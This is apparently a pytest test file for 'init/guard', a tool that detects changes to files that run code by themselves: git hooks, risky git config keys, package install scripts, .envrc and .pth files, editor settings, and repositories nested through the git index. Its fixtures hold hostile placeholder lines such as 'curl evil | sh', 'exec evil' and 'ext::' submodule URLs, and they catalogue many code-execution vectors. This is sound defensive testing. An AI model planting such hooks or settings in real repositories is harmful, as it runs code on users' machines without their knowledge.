"""init/guard/: what a machine would run is told, and nothing else; hostile trees included."""

import json
import os
import shutil
import socket
import stat
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from init.guard import changes, git_config, git_index, rules, snapshot, views
from init.guard import quarantine as kept
from init.guard import search as walk
from init.guard.snapshot import Change

HOOK = "#!/bin/sh\ncurl evil | sh\n"
RULES = (*rules.RULES, *rules.IN_REPOSITORY)


@pytest.fixture(autouse=True)
def _own_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Let git know nothing of the machine it runs on."""
    for name in [name for name in os.environ if name.startswith("GIT_")]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_SYSTEM", os.devnull)
    for role in ("AUTHOR", "COMMITTER"):
        monkeypatch.setenv(f"GIT_{role}_NAME", "tester")
        monkeypatch.setenv(f"GIT_{role}_EMAIL", "tester")
        monkeypatch.setenv(f"GIT_{role}_DATE", "2000-01-01T00:00:00Z")


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "workspace"
    folder.mkdir()
    return folder


@pytest.fixture
def project(root: Path) -> Path:
    """Return a repository in the workspace, with a commit, a hook and a script."""
    folder = root / "project"
    folder.mkdir()
    git(folder, "init", "-q", "-b", "main")
    put(folder / "package.json", json.dumps({"name": "a", "scripts": {"test": "jest", "prepare": "husky"}}))
    put(folder / "Makefile", "all:\n\techo\n")
    put(folder / "src" / "main.py", "print()\n")
    put(folder / ".git" / "hooks" / "pre-commit", "#!/bin/sh\nmake lint\n", 0o755)
    commit(folder)
    return folder


def git(folder: Path, *arguments: str) -> str:
    command = ["git", "-c", "protocol.file.allow=always", "-c", "core.hooksPath=/dev/null", *arguments]
    return subprocess.run(command, cwd=folder, check=True, capture_output=True, text=True).stdout


def commit(folder: Path) -> None:
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "change")


def put(path: Path, content: str | bytes = "", mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    path.chmod(mode)
    return path


def made(root: Path, act: Callable[[], object]) -> tuple[Change, ...]:
    before = walk.search(str(root))
    act()
    return changes.compare(before, walk.search(str(root)))


def told(root: Path, act: Callable[[], object]) -> dict[str, tuple[str, tuple[str, ...]]]:
    return {change.path: (change.what, change.lines) for change in made(root, act)}


# What is told


NAMES_OF_TEXTS = [
    (rule.reason, name) for rule in rules.RULES if rule.view == "text" for name in rule.names.split()
]


@pytest.mark.parametrize("where", ["", "a/b/"])
@pytest.mark.parametrize(("reason", "pattern"), NAMES_OF_TEXTS)
def test_every_name_of_the_table_is_found(root: Path, where: str, reason: str, pattern: str) -> None:
    name = pattern.replace("**", "deep/er").replace("*", "any")
    (change,) = made(root, lambda: put(root / where / name, "run\n"))
    assert (change.path, change.what, change.reason, change.lines) == (
        where + name,
        "added",
        reason,
        ("run",),
    )


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.names.split()[0])
def test_every_rule_is_written_for_people_and_known(rule: rules.Rule) -> None:
    assert rule.reason
    assert rule.names
    assert rule.view in {"text", "hook", "pointer", "head", *views._READERS}


@pytest.mark.parametrize(
    ("path", "content", "lines"),
    [
        (".git/hooks/post-checkout", HOOK, ("#!/bin/sh", "curl evil | sh")),
        (".git/hooks/sub/x", "a", ("a",)),
        (".GIT/hooks/pre-push", "a", ("a",)),
        (".Envrc", "a", ("a",)),
        ("deep/er/.git/hooks/pre-push", "a", ("a",)),
        (".git/config", "[core]\nfsmonitor = x\n[user]\nname = y\n", ("core.fsmonitor = x",)),
        (".git/config", "[core] fsmonitor=x", ("core.fsmonitor = x",)),
        (".git/config", "\ufeff[CORE]\r\nFsMonitor=x\\\r\ny\r\n", ("core.fsmonitor = xy",)),
        (".git/config", '[core "fsmonitor\0"] x = y', ("core.fsmonitor = y",)),
        (".git/config", "[filter.x]\nclean = y", ("filter.x.clean = y",)),
        (".git/config", '[diff "A.b"]\ntextconv', ("diff.A.b.textconv",)),
        (".git/config", "[core] editor = a\neditor = b", ("core.editor = a", "core.editor = b")),
        (".git/config", "[core]\nfsmonitor = x\nbroken!", ("[core]", "fsmonitor = x", "broken!")),
        (".git/config.worktree", "[core]\npager = x", ("core.pager = x",)),
        (".git/modules/lib/a/HEAD", None, None),
        (".git/info/attributes", "*.c diff=x\n*.h text\n", ("*.c diff=x",)),
        (".git/rebase-merge/git-rebase-todo", "pick 1\nexec evil\n", ("exec evil",)),
        (".gitattributes", "*.c  filter=x\n# no\n*.h -text eol=lf\n", ("*.c  filter=x",)),
        (".gitmodules", '[submodule "a"]\npath = a\nurl = u\nupdate = !x', ("submodule.a.update = !x",)),
        (".gitmodules", '[submodule "a"]\nurl = ext::x', ("submodule.a.url = ext::x",)),
        ("a/package.json", '{"name": "x", "scripts": {"postinstall": "x"}}', ('scripts.postinstall = "x"',)),
        ("package.json", '{"packageManager": "yarn@x"}', ('packageManager = "yarn@x"',)),
        ("package.json", '{"scripts": ', ('{"scripts":',)),
        ("package.json", "[" * 100_000, (f"{'[' * changes.MAX_WIDTH}… (100000 characters)",)),
        ("composer.json", '{"scripts": {"post-install-cmd": "x"}}', ('scripts.post-install-cmd = "x"',)),
        ("pyproject.toml", '[build-system]\nbackend-path = ["."]', ('backend-path = ["."]',)),
        ("pyproject.toml", "[tool.mypy]\nplugins = [\n'a',\n\n]\nx = 1", ("plugins = [ 'a', ]",)),
        ("pyproject.toml", "[a.main]\ninit-hook = '''\nimport os\n'''\n", ("init-hook = ''' import os '''",)),
        ("setup.cfg", "[mypy]\nplugins =\n  a,\n\n  b\nstrict = x\n", ("plugins = a, b",)),
        ("tox.ini", "[testenv]\ncommands = x\n[mypy]\nplugins: a", ("plugins: a",)),
        (".flake8", "[flake8:local-plugins]\npaths = .\n", ("[flake8:local-plugins]", "paths = .")),
        ("Cargo.toml", '[package]\nname = "build"\nbuild = "x.rs"\n', ('build = "x.rs"',)),
        ("Cargo.toml", 'package = { "build"="x.rs" }', ('package = { "build"="x.rs" }',)),
        ("package.json", '{"eslintConfig": {"parser": "./x"}}', ('eslintConfig = {"parser": "./x"}',)),
        ("package.json", '{"prettier": "./x"}', ('prettier = "./x"',)),
        (".git/config", "[delta]\npager = x", ("delta.pager = x",)),
        (".git/lazygit.yml", "customCommands: x", ("customCommands: x",)),
        (".venv/lib/python3.11/site-packages/a.pth", "/a\nimport os; x()\n", ("import os; x()",)),
        ("venv/Lib/site-packages/a.pth", "\ufeffimport\tos\n", ("\ufeffimport os",)),
        ("venv/lib/python3.9/site-packages/a.pth", "#\x0cimport x\n", ("#\x0cimport x",)),
        (
            ".vscode/settings.json",
            '{ // "x": 1,\n "editor.tabSize": 2, /* */ "git.path": "/x//y", "[c]": {"a.b": [1,],},}',
            ('git.path = "/x//y"', "a.b = [1]"),
        ),
        (".vscode/settings.json", '{"a.b": "x", "a.b": "y"}', ('{"a.b": "x", "a.b": "y"}',)),
    ],
)
def test_what_runs_is_shown(
    root: Path, path: str, content: str | None, lines: tuple[str, ...] | None
) -> None:
    expected = {} if lines is None else {path: ("added", lines)}
    assert told(root, lambda: put(root / path, content or "")) == expected


@pytest.mark.parametrize(
    "key",
    [
        f"{section}.any.{'x' if key == '*' else key}"
        for section, keys in rules.GIT_SETTINGS.items()
        for key in sorted(keys)
    ]
    + [
        "alias.x", "core.fsmonitor", "core.sshCommand", "core.editor", "core.pager", "core.askPass",
        "core.hooksPath", "diff.external", "include.path", "credential.helper", "gpg.program", "pager.log",
        "sequence.editor", "protocol.allow", "uploadpack.packObjectsHook", "interactive.diffFilter",
        "url.a.b.insteadOf",
    ],
)  # fmt: skip
def test_every_setting_of_the_table_is_found_as_git_writes_it(root: Path, project: Path, key: str) -> None:
    value = "!ext::/../../../../.."  # that is risky for each of them
    found = told(root, lambda: git(project, "config", key, value))
    section, _, rest = key.partition(".")
    sub, dot, last = rest.rpartition(".")
    assert found == {
        "project/.git/config": ("changed", (f"{section.lower()}.{sub}{dot}{last.lower()} = {value}",))
    }


@pytest.mark.parametrize(
    ("path", "by_itself"),
    [(".envrc", True), ("Makefile", False), ("setup.py", False), (".git/hooks/pre-push", True)],
)
def test_what_runs_by_habit_is_told_apart(root: Path, path: str, by_itself: bool) -> None:
    (change,) = made(root, lambda: put(root / path, "x"))
    assert change.by_itself == by_itself


@pytest.mark.parametrize(
    ("scripts", "by_itself"),
    [({"test": "x"}, False), ({"test": "x", "prepare": "y"}, True), ({"preinstall": "x"}, True)],
)
def test_scripts_run_by_itself_or_by_habit(root: Path, scripts: dict[str, str], by_itself: bool) -> None:
    (change,) = made(root, lambda: put(root / "package.json", json.dumps({"scripts": scripts})))
    assert change.by_itself == by_itself


def test_what_runs_by_itself_is_the_first_line_and_the_first_change(root: Path) -> None:
    scripts = {**{f"run{number}": "x" for number in range(50)}, "postinstall": "evil"}

    def act() -> None:
        put(root / "Makefile", "all:\n")
        put(root / "package.json", json.dumps({"scripts": scripts}))

    first, second = made(root, act)
    assert (first.path, first.lines[0]) == ("package.json", 'scripts.postinstall = "evil"')
    assert second.path == "Makefile"


def test_only_the_new_lines_of_a_changed_file_are_shown(root: Path, project: Path) -> None:
    makefile = project / "Makefile"
    found = told(root, lambda: makefile.write_text("all:\n\tcurl evil\n\techo\n"))
    assert found == {"project/Makefile": ("changed", ("    curl evil",))}


def test_of_a_changed_package_only_the_new_script_is_shown(root: Path, project: Path) -> None:
    content = json.loads((project / "package.json").read_text())
    content["scripts"]["postinstall"] = "evil"
    content["version"] = "2"
    found = told(root, lambda: put(project / "package.json", json.dumps(content)))
    assert found == {"project/package.json": ("changed", ('scripts.postinstall = "evil"',))}


def test_lines_in_another_order_and_a_hook_made_executable_are_told(root: Path) -> None:
    makefile, hook = put(root / "Makefile", "a\nb\n"), put(root / ".git/hooks/x", "a")

    def act() -> None:
        makefile.write_text("b\na\n")
        hook.chmod(0o755)

    assert told(root, act) == {
        "Makefile": ("changed", ("is in another order, or shorter",)),
        ".git/hooks/x": ("changed", ("has become executable",)),
    }


def test_a_file_that_becomes_a_link_of_the_same_content_is_told(root: Path) -> None:
    path = put(root / ".envrc", "other")

    def act() -> None:
        path.unlink()
        path.symlink_to("other")

    assert told(root, act) == {".envrc": ("changed", ("is a link to other",))}


def test_a_value_that_comes_back_into_force_is_told(root: Path, project: Path) -> None:
    put(project / ".git" / "config", "[core]\neditor = bad\neditor = good\n")
    found = told(root, lambda: put(project / ".git" / "config", "[core]\neditor = bad\n"))
    assert found == {"project/.git/config": ("changed", ("core.editor = bad",))}


def test_the_interpreter_of_a_virtual_environment_is_told_when_it_changes(root: Path) -> None:
    program = root / ".venv" / "bin" / "python3.11"
    program.parent.mkdir(parents=True)
    program.symlink_to("/usr/bin/python3.11")
    (program.parent / "python").symlink_to("python3.11")

    def act() -> None:
        program.unlink()
        put(program, "evil", 0o755)

    assert told(root, act) == {".venv/bin/python3.11": ("changed", ("evil",))}


# Where git would find it


def test_a_repository_is_a_repository_whatever_its_name(root: Path) -> None:
    def act() -> None:
        git(root, "init", "-q", "--bare", "docs")
        git(root / "docs", "config", "core.worktree", "../../outside")
        put(root / "docs" / "hooks" / "post-checkout", "a")

    assert told(root, act) == {
        "docs/HEAD": ("added", ("makes a repository of the folder that it is in",)),
        "docs/config": ("added", ("core.worktree = ../../outside",)),
        "docs/hooks/post-checkout": ("added", ("a",)),
    }


@pytest.mark.parametrize(
    "place", [".git/modules/lib", ".git/modules/a/b", ".git/worktrees/x", ".git/modules/a/modules/b"]
)
@pytest.mark.parametrize("marker", ["objects", "commondir"])
def test_hooks_and_settings_of_submodules_and_worktrees_count(root: Path, place: str, marker: str) -> None:
    def act() -> None:
        put(root / place / "HEAD", "ref: refs/heads/main")
        put(root / place / marker, ".")
        put(root / place / "config", "[core]\nfsmonitor = x\n")
        put(root / place / "hooks" / "pre-commit", "a")

    parents = {path: lines for path, lines in told(root, act).items() if path.startswith(place)}
    assert set(parents) == {f"{place}/config", f"{place}/hooks/pre-commit"}


def test_a_git_file_leads_to_the_repository_that_it_names(root: Path) -> None:
    put(root / "hidden" / "config", "[core]\neditor = old\n")

    def act() -> None:
        put(root / "project" / ".git", "gitdir: ../hidden\n")

    assert told(root, act) == {"hidden/config": ("added", ("core.editor = old",))}


@pytest.mark.parametrize("target", ["../../outside", "/outside", "../project/../../x", "link/x"])
def test_a_git_file_that_leads_out_is_told(root: Path, target: str) -> None:
    (root / "link").symlink_to("..")
    (root / "project").mkdir()
    (root / "project" / "link").symlink_to("../..")
    found = told(root, lambda: put(root / "project" / ".git", f"gitdir: {target}\n"))
    assert found == {"project/.git": ("added", (f"gitdir = {target}",))}


def test_a_shared_repository_counts_where_commondir_says(root: Path, project: Path) -> None:
    def act() -> None:
        put(root / "shared" / "config", "[core]\nfsmonitor = x\n")
        put(project / ".git" / "commondir", "../../shared")

    assert told(root, act) == {"shared/config": ("added", ("core.fsmonitor = x",))}


def test_a_git_file_of_a_repository_that_is_gone_is_nothing(root: Path) -> None:
    put(root / "project" / ".git", "gitdir: ../gone\n")
    assert walk.search(str(root)).unseen == ()


def test_a_commondir_that_leads_out_is_told(root: Path, project: Path) -> None:
    found = told(root, lambda: put(project / ".git" / "commondir", "/outside"))
    assert found == {"project/.git/commondir": ("added", ("gitdir = /outside",))}


def test_the_folder_of_hooks_path_is_relative_to_where_git_works(root: Path, project: Path) -> None:
    git(project, "config", "core.hooksPath", "tools/hooks")
    git(project, "worktree", "add", "-q", "../tree")
    for folder in (project, root / "tree"):
        put(folder / "tools" / "hooks" / "pre-commit", "make\n")

    def act() -> None:
        for folder in (project, root / "tree"):
            put(folder / "tools" / "hooks" / "pre-commit", "make\nevil\n")

    assert told(root, act) == {
        "project/tools/hooks/pre-commit": ("changed", ("evil",)),
        "tree/tools/hooks/pre-commit": ("changed", ("evil",)),
    }


def test_a_hooks_path_of_the_users_machine_is_found_by_its_end(root: Path, project: Path) -> None:
    git(project, "config", "core.hooksPath", "/home/user/work/project/tools")
    found = told(root, lambda: put(project / "tools" / "pre-commit", "evil"))
    assert found == {"project/tools/pre-commit": ("added", ("evil",))}


@pytest.mark.parametrize("key", ["include.path", "includeIf.gitdir:**.path"])
def test_a_file_that_is_included_counts_and_so_does_what_it_names(
    root: Path, project: Path, key: str
) -> None:
    git(project, "config", key, "../settings")
    put(project / "settings", "[include]\npath = more\n")
    put(project / "more", "[core]\nhooksPath = tools\n")

    def act() -> None:
        put(project / "more", "[core]\nhooksPath = tools\npager = evil\n")
        put(project / "tools" / "pre-commit", "evil")

    assert told(root, act) == {
        "project/more": ("changed", ("core.pager = evil",)),
        "project/tools/pre-commit": ("added", ("evil",)),
    }


@pytest.mark.parametrize("many", [3, 3000])
def test_includes_in_a_circle_or_a_long_row_end(root: Path, project: Path, many: int) -> None:
    git(project, "config", "include.path", "../c0")
    for number in range(many):
        put(project / f"c{number}", f"[include]\npath = c{(number + 1) % many}\n")
    assert f"project/c{min(many, 1000) - 1}" in walk.search(str(root)).items


@pytest.mark.parametrize(
    "name", [".git", ".git/hooks", ".vscode", ".envrc", ".git/config", ".git/hooks/pre-push"]
)
@pytest.mark.parametrize("target", ["../../outside", "/outside", "nowhere"])
def test_a_link_in_a_risky_place_is_told(root: Path, name: str, target: str) -> None:
    def act() -> None:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).symlink_to(target)

    assert told(root, act) == {name: ("added", (f"is a link to {target}",))}


@pytest.mark.parametrize("folder", [".claude/hooks", "prompts"])
@pytest.mark.parametrize("name", ["setup.py", "head", "package.json", "tools/run", ".vscode/settings.json"])
def test_all_of_a_folder_is_all_of_it_whatever_the_names(root: Path, folder: str, name: str) -> None:
    put(root / "prompts" / "old", "a")
    (root / ".claude").mkdir()
    (root / ".claude" / "commands").symlink_to("../prompts")
    (change,) = made(root, lambda: put(root / folder / name, "{}\n"))
    assert (change.path, change.lines, change.by_itself) == (f"{folder}/{name}", ("{}",), True)


def test_a_link_in_the_place_of_gits_folder_of_submodules_leads_on(root: Path) -> None:
    put(root / "vendor" / "a" / "lib" / "HEAD")
    put(root / "vendor" / "a" / "lib" / "objects" / "x")
    put(root / ".git" / "HEAD")
    (root / ".git" / "modules").symlink_to("../vendor")
    found = told(root, lambda: put(root / "vendor" / "a" / "lib" / "hooks" / "pre-push", "evil"))
    assert found == {"vendor/a/lib/hooks/pre-push": ("added", ("evil",))}


def test_what_a_link_leads_to_in_the_workspace_counts(root: Path) -> None:
    for name in ("real/hooks/pre-push", "scripts/lint.sh", "editor/tasks.json", "repository/config"):
        put(root / name, "[a]\n")
    put(root / ".git" / "hooks" / "pre-commit").unlink()
    (root / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/lint.sh")
    (root / ".vscode").symlink_to("editor")
    (root / "nested").mkdir()
    (root / "nested" / ".git").symlink_to("../repository")

    def act() -> None:
        put(root / "scripts" / "lint.sh", "evil")
        put(root / "editor" / "tasks.json", "evil")
        put(root / "repository" / "config", "[core]\npager = evil\n")

    assert told(root, act) == {
        "scripts/lint.sh": ("changed", ("evil",)),
        "editor/tasks.json": ("changed", ("evil",)),
        "repository/config": ("changed", ("core.pager = evil",)),
    }


# What git finds by its index, in folders that are not searched


def embed(folder: Path, name: str) -> Path:
    """Commit a repository within another one, as an attacker would."""
    inner = folder / name
    inner.mkdir(parents=True, exist_ok=True)
    git(inner, "init", "-q", "-b", "main")
    git(inner, "commit", "-q", "--allow-empty", "-m", "x")
    git(folder, "add", "-f", name)
    return inner


EVIL = ("changed", ("core.fsmonitor = evil",))
INDEXES = {
    "plain": [],
    "3": ["update-index", "--index-version", "3"],
    "4": ["update-index", "--index-version", "4"],
    "split": ["update-index", "--split-index"],
}


@pytest.mark.parametrize("name", ["vendor", "node_modules/x/y", "target/" + "long" * 30 + "/x"])
@pytest.mark.parametrize("kind", INDEXES)
def test_a_repository_that_the_index_names_is_found_where_nothing_is_searched(
    root: Path, project: Path, name: str, kind: str
) -> None:
    inner = embed(project, name)
    if kind == "3":
        put(project / "intended")
        git(project, "add", "-N", "intended")
    if INDEXES[kind]:
        git(project, *INDEXES[kind])
    found = told(root, lambda: git(inner, "config", "core.fsmonitor", "evil"))
    assert found == {f"project/{name}/.git/config": EVIL}


def test_what_the_index_of_a_repository_in_the_index_names_is_found(root: Path, project: Path) -> None:
    inner = embed(project, "vendor")
    inmost = embed(inner, "node_modules/x")

    def act() -> None:
        git(inmost, "config", "core.fsmonitor", "evil")
        embed(inmost, "target/y")
        put(inmost / "target" / "y" / ".git" / "hooks" / "pre-push", "evil")

    assert told(root, act) == {
        "project/vendor/node_modules/x/.git/config": EVIL,
        "project/vendor/node_modules/x/target/y/.git/hooks/pre-push": ("added", ("evil",)),
    }


@pytest.mark.parametrize("version", ["2", "4"])
def test_a_gitlink_that_replaces_an_entry_of_a_shared_index_is_found(
    root: Path, project: Path, version: str
) -> None:
    git(project, "update-index", "--index-version", version)
    put(project / "vendor", "a file")
    git(project, "add", "-f", "vendor")
    git(project, "update-index", "--split-index")
    (project / "vendor").unlink()
    (project / "vendor").mkdir()
    git(project / "vendor", "init", "-q")
    git(project / "vendor", "commit", "-q", "--allow-empty", "-m", "x")
    commit_id = git(project / "vendor", "rev-parse", "HEAD").strip()
    git(project, "update-index", "--cacheinfo", f"160000,{commit_id},vendor")
    assert "160000" in git(project, "ls-files", "-s", "vendor")
    found = told(root, lambda: git(project / "vendor", "config", "core.fsmonitor", "evil"))
    assert found == {"project/vendor/.git/config": EVIL}


def test_the_index_of_a_linked_worktree_and_of_a_submodule_count(root: Path, project: Path) -> None:
    add_submodule(project)
    git(project, "worktree", "add", "-q", "../tree")
    inner = [embed(root / "tree", "vendor"), embed(project / "libs" / "other", "target/x")]
    found = told(root, lambda: [git(folder, "config", "core.fsmonitor", "evil") for folder in inner])
    assert found == {"tree/vendor/.git/config": EVIL, "project/libs/other/target/x/.git/config": EVIL}


def test_an_index_of_longer_names_of_objects_is_read(root: Path) -> None:
    git(root, "init", "-q", "--object-format=sha256")
    put(root / "a")
    commit(root)
    put(root / "vendor" / "b")
    git(root / "vendor", "init", "-q", "--object-format=sha256")
    git(root / "vendor", "commit", "-q", "--allow-empty", "-m", "x")
    git(root, "add", "-f", "vendor")
    found = told(root, lambda: git(root / "vendor", "config", "core.fsmonitor", "evil"))
    assert found == {"vendor/.git/config": EVIL}
    assert walk.search(str(root)).unseen == ()


@pytest.mark.parametrize("version", ["2", "4"])
def test_the_gitlinks_are_those_that_git_lists(project: Path, version: str) -> None:
    for name in ("vendor", "libs/" + "n" * 200, "é"):
        embed(project, name)
    git(project, "update-index", "--index-version", version)
    names, whole = git_index.gitlinks((project / ".git" / "index").read_bytes(), 20)
    assert whole
    listed = [line.partition("\t") for line in git(project, "ls-files", "-sz").split("\0")]
    assert {os.fsdecode(name) for name in names} == {
        path for head, _, path in listed if head.startswith("160000")
    }
    names, _ = git_index.gitlinks((project / ".git" / "index").read_bytes(), 20, every=True)
    assert {os.fsdecode(name) for name in names} == {path for _, _, path in listed if path}


def test_a_gitlink_of_an_odd_mode_is_one_to_git(root: Path, project: Path) -> None:
    embed(project, "vendor")
    index = project / ".git" / "index"
    data = index.read_bytes()
    assert data.count(b"\0\0\xe0\0") == 1
    index.write_bytes(data.replace(b"\0\0\xe0\0", b"\1\0\xe1\xa4"))
    found = told(root, lambda: put(project / "vendor" / ".git" / "hooks" / "pre-push", "evil"))
    assert found == {"project/vendor/.git/hooks/pre-push": ("added", ("evil",))}


def no_index(path: Path) -> None:
    path.unlink()
    path.symlink_to("elsewhere")


@pytest.mark.parametrize(
    "act",
    [
        lambda path: path.write_bytes(b"x"),
        lambda path: path.write_bytes(path.read_bytes()[:100]),
        lambda path: path.write_bytes(b"DIRC\0\0\0\2\xff\xff\xff\xff" + b"\0" * 10_000_000),
        lambda path: path.write_bytes(b"DIRC\0\0\0\4\xff\xff\xff\xff" + b"\xff" * 1_000_000),
        lambda path: os.truncate(path, walk.MAX_INDEX + 1),
        no_index,
    ],
)
def test_an_index_that_cannot_be_read_is_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
    start = time.process_time()
    act(project / ".git" / "index")
    assert walk.search(str(root)).unseen == ("project/.git/index",)
    assert time.process_time() - start < 5


def test_a_sparse_index_does_not_tell_all(root: Path, project: Path) -> None:
    git(project, "sparse-checkout", "set", "--cone", "--sparse-index", "none")
    assert walk.search(str(root)).unseen == ("project/.git/index",)


def test_an_index_that_names_too_many_ends(
    root: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("vendor", "target"):
        embed(project, name)
    monkeypatch.setattr(walk, "MAX_LEADS", 0)
    assert "project/vendor" in walk.search(str(root)).unseen


def _entry(mode: int, flags: int, rest: bytes) -> bytes:
    return b"\0" * 24 + mode.to_bytes(4, "big") + b"\0" * 32 + flags.to_bytes(2, "big") + rest


@pytest.mark.parametrize("version", ["2", "4"])
def test_an_index_that_several_threads_read_is_read(root: Path, project: Path, version: str) -> None:
    inner = embed(project, "vendor")
    git(project, "update-index", "--index-version", version)
    put(project / "more")
    git(project, "-c", "index.threads=2", "-c", "index.recordOffsetTable=true", "add", "more")
    assert b"IEOT" in (project / ".git" / "index").read_bytes()
    assert walk.search(str(root)).unseen == ()
    found = told(root, lambda: git(inner, "config", "core.fsmonitor", "evil"))
    assert found == {"project/vendor/.git/config": EVIL}


def test_an_entry_to_which_only_the_table_of_offsets_sends_is_found() -> None:
    plain, link = _entry(0x81A4, 1, b"a\0"), _entry(0xE000, 6, b"vendor\0\0\0\0")
    data = b"DIRC\0\0\0\2\0\0\0\1" + plain
    at = len(data) + 8
    data += b"XXXX" + len(link).to_bytes(4, "big") + link
    data += b"IEOT" + b"".join(number.to_bytes(4, "big") for number in (12, 1, at, 1)) + b"\0" * 20
    assert git_index.gitlinks(data, 20) == ({b"vendor"}, True)


def test_a_table_of_offsets_cannot_make_it_take_long() -> None:
    table = b"".join(number.to_bytes(4, "big") for number in (12, 10_000)) * 8000
    data = b"DIRC\0\0\0\2\0\0\x27\x10" + _entry(0x81A4, 1, b"a\0") * 10_000
    data += b"IEOT" + (len(table) + 4).to_bytes(4, "big") + b"\0\0\0\1" + table
    start = time.process_time()
    assert git_index.gitlinks(data, 20) == (set(), False)
    assert time.process_time() - start < 2


ENTRIES = st.one_of(
    st.binary(max_size=80),
    st.builds(_entry, st.sampled_from([0xE000, 0x81A4]), st.integers(0, 0xFFFF), st.binary(max_size=20)),
)


@given(
    st.sampled_from([b"DIRC", b"", b"link"]),
    st.integers(0, 5),
    st.integers(0, 0xFFFFFFFF),
    st.lists(ENTRIES).map(b"".join),
    st.sampled_from([20, 32]),
)
def test_an_index_of_any_bytes_is_read_to_its_end(
    magic: bytes, version: int, count: int, rest: bytes, size: int
) -> None:
    data = magic + version.to_bytes(4, "big") + count.to_bytes(4, "big") + rest
    for every in (False, True):
        names, _ = git_index.gitlinks(data, size, every=every)
        assert all(b"\0" not in name for name in names)


# Where git keeps submodules


def test_the_objects_of_a_submodule_are_not_searched(
    root: Path, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_submodule(project)
    store = project / ".git" / "modules" / "libs" / "other"
    for number in range(256):
        (store / "objects" / f"{number:02x}").mkdir(exist_ok=True)
    monkeypatch.setattr(walk, "MAX_FOLDERS", 50)
    assert walk.search(str(root)).unseen == ()


@pytest.mark.parametrize("name", ["logs", "info", "objects", "logs/a"])
def test_a_submodule_may_have_the_name_of_a_folder_of_git(root: Path, project: Path, name: str) -> None:
    add_submodule(project)
    git(project, "submodule", "--quiet", "add", "--name", name, "../other", "libs/again")

    def act() -> None:
        git(project / "libs" / "again", "config", "core.fsmonitor", "evil")
        embed(project / "libs" / "again", "target")

    assert told(root, act) == {f"project/.git/modules/{name}/config": EVIL}
    shutil.rmtree(project / "libs" / "again")
    assert f"project/.git/modules/{name}/config" in walk.search(str(root)).items


# What is not told


def edit_sources(project: Path) -> None:
    put(project / "src" / "main.py", "print(1)\n")
    put(project / "README.md", "# x\n")
    put(project / "AGENTS.md", "Be good.\n")
    put(project / "src" / "head", "not a repository\n")


def add_dependency(project: Path) -> None:
    content = json.loads((project / "package.json").read_text())
    put(
        project / "package.json",
        json.dumps({**content, "dependencies": {"x": "^1"}, "version": "3"}, indent=4),
    )
    put(project / "node_modules" / "x" / "package.json", '{"scripts": {"postinstall": "x"}}')
    put(project / "node_modules" / "x" / ".vscode" / "tasks.json", "{}")


def commit_and_branch(project: Path) -> None:
    edit_sources(project)
    commit(project)
    git(project, "checkout", "-q", "-b", "feature")
    git(project, "branch", "--set-upstream-to=main")
    git(project, "tag", "v1")
    git(project, "stash", "list")
    git(project, "gc", "-q")


def configure(project: Path) -> None:
    git(project, "config", "user.name", "somebody")
    git(project, "config", "core.fsmonitor", "true")
    git(project, "config", "pager.log", "false")
    git(project, "config", "core.autocrlf", "input")
    git(project, "config", "branch.main.rebase", "true")


def add_remote(project: Path) -> None:
    git(project, "remote", "add", "origin", "https://example.invalid/a.git")
    git(project, "remote", "add", "ssh", "git@example.invalid:a.git")


def add_worktree(project: Path) -> None:
    shutil.move(project / "Makefile", project.parent / "kept")
    git(project, "worktree", "add", "-q", "--no-checkout", "../tree")


def add_submodule(project: Path) -> None:
    other = project.parent / "other"
    git(project.parent, "init", "-q", "-b", "main", "other")
    put(other / "a.py")
    commit(other)
    git(project, "submodule", "--quiet", "add", "../other", "libs/other")
    commit(project)


def rebase(project: Path) -> None:
    git(project, "checkout", "-q", "-b", "side")
    put(project / "src" / "side.py")
    commit(project)
    put(project / "src" / "main.py", "print(2)\n")
    commit(project)
    with pytest.raises(subprocess.CalledProcessError):
        git(project, "-c", "sequence.editor=sed -i '1i break\\nbad'", "rebase", "-i", "HEAD~1")


def edit_settings(project: Path) -> None:
    put(
        project / ".vscode" / "settings.json",
        '{"editor.rulers": [80], "[python]": {"editor.tabSize": 4}} // x',
    )
    put(project / "pyproject.toml", '[build-system]\nrequires = ["x"]\n[project]\nname = "a"\n')
    put(project / "Cargo.toml", '[package]\nname = "a"\nbuild = false\n[build-dependencies]\nbuild-x = "1"\n')
    put(project / "setup.cfg", "[mypy]\nstrict = true\n[tool:pytest]\naddopts = -q\n")
    put(project / "tox.ini", "[testenv]\ncommands = pytest\n")
    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a.pth", "/project/src\n")
    put(project / "venv" / "lib" / "python3.12" / "site-packages" / "a" / "setup.py", "import x\n")
    put(project / ".gitattributes", "* text=auto\n")
    put(project / ".opencode" / "node_modules" / "x" / "index.js")


def take_away(project: Path) -> None:
    (project / "Makefile").unlink()
    shutil.rmtree(project / ".git" / "hooks")
    put(project / "package.json", '{"scripts": {"test": "jest"}}')


def folders_with_names_of_files(project: Path) -> None:
    put(project / "makefile" / "main.py")
    put(project / ".envrc" / "main.py")
    put(project / "package.json.d" / "main.py")
    put(project / ".vscodex" / "tasks.json")


def samples(project: Path) -> None:
    put(project / ".git" / "hooks" / "pre-push.sample", HOOK, 0o755)


HARMLESS = (
    edit_sources, add_dependency, commit_and_branch, configure, add_remote, add_worktree, add_submodule,
    rebase, edit_settings, take_away, folders_with_names_of_files, samples,
)  # fmt: skip


@pytest.mark.parametrize("act", HARMLESS, ids=lambda act: act.__name__)
def test_ordinary_work_is_not_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
    assert told(root, lambda: act(project)) == {}


